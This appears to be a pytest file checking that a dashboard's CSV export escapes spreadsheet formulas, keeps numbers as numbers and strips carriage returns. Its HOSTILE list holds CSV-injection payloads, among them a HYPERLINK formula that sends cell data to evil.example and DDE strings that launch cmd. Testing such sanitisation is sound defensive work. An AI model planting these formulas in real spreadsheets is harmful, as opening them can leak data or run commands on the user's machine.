"""CSV downloads neutralise spreadsheet formulas in text cells and leave numbers alone."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from indicators.exports import files
from indicators.view.state import ViewState

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1,2\n3",  # with a comma and a line break: quoted as well
]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_text_cells_starting_a_formula_get_a_leading_quote():
    table = pd.DataFrame({"series": HOSTILE, "value": np.arange(len(HOSTILE), dtype=float)})
    out = rows(files.table_csv(table))
    assert out[0] == ["series", "value"]
    assert [r[0] for r in out[1:]] == ["'" + text.replace("\r", "\n") for text in HOSTILE]
    assert [r[1] for r in out[1:]] == [f"{i}.0" for i in range(len(HOSTILE))]


def test_numbers_stay_numbers_negative_ones_included():
    table = pd.DataFrame(
        {
            "series": ["Kazakhstan", "gap", "-", "- minus", "a=b", " =x", "-3.5", "+2", "1e-3"],
            "value": [-3.5, -0.25, 1.0, -1e6, 0.0, np.nan, -3.5, 2.0, 1.5],
            "year": [2020, -1, 2, 3, 4, 5, 6, 7, 8],
            "rank": pd.array([-7, None, 3, 4, 5, 6, 7, 8, 9], dtype="Int64"),
            "text": pd.array(["-x", None, "ok", "@a", "=b", "+c", "d", "e", "f"], dtype="string"),
            "mixed": [-3.5, "-3.5", "=1", 4, None, True, "x", "-y", -0.5],  # object column
        }
    )
    out = rows(files.table_csv(table))
    assert out[1] == ["Kazakhstan", "-3.5", "2020", "-7", "'-x", "-3.5"]
    assert [r[1] for r in out[1:]] == [
        "-3.5", "-0.25", "1.0", "-1000000.0", "0.0", "", "-3.5", "2.0", "1.5"
    ]  # fmt: skip
    assert [r[2] for r in out[1:]][:2] == ["2020", "-1"]
    assert [r[0] for r in out[1:]] == [
        "Kazakhstan",
        "gap",
        "'-",
        "'- minus",
        "a=b",
        " =x",
        "-3.5",
        "+2",
        "1e-3",
    ]  # fmt: skip  (text that is only a number is a number in a spreadsheet too: kept)
    assert [r[4] for r in out[1:]] == ["'-x", "", "ok", "'@a", "'=b", "'+c", "d", "e", "f"]
    assert [r[5] for r in out[1:]] == ["-3.5", "-3.5", "'=1", "4", "", "True", "x", "'-y", "-0.5"]


def test_carriage_returns_cannot_split_a_row():
    table = pd.DataFrame({"note": ["a\rb", "c\r\nd", "\r"], "value": [1.0, -2.0, 3.0]})
    text = files.table_csv(table)
    assert "\r" not in text
    assert rows(text) == [["note", "value"], ["a\nb", "1.0"], ["c\nd", "-2.0"], ["'\n", "3.0"]]


def test_a_negative_number_in_the_first_column_is_written_as_a_number():
    table = pd.DataFrame({"value": [-3.5, -12.0], "label": ["=1", "ok"]})
    assert files.table_csv(table) == "value,label\n-3.5,'=1\n-12.0,ok\n"


def test_column_names_are_neutralised_too_and_the_table_is_not_changed():
    table = pd.DataFrame({"=name": ["=x"], "value": [-1.0]})
    before = table.copy()
    assert files.table_csv(table) == "'=name,value\n'=x,-1.0\n"
    pd.testing.assert_frame_equal(table, before)


def test_empty_table():
    assert files.table_csv(pd.DataFrame({"series": [], "value": []})) == "series,value\n"


@pytest.mark.parametrize("chart_id", ["cpi", "wgi_cc", "fdi"])
def test_real_chart_csv_keeps_its_numbers(bundle, chart_id):
    state = files.chart_state(ViewState(wgi_mode="gap"), chart_id)
    table = files.build_chart(chart_id, bundle, state).table  # wherever it lives
    out = pd.read_csv(io.StringIO(files.chart_csv(bundle, state, chart_id)))
    assert list(out.columns) == list(table.columns)
    assert len(out) == len(table)
    np.testing.assert_allclose(out["value"].to_numpy(float), table["value"].to_numpy(float))
    if chart_id == "wgi_cc":
        assert (out["value"] < 0).any()  # gaps to the OECD average are negative
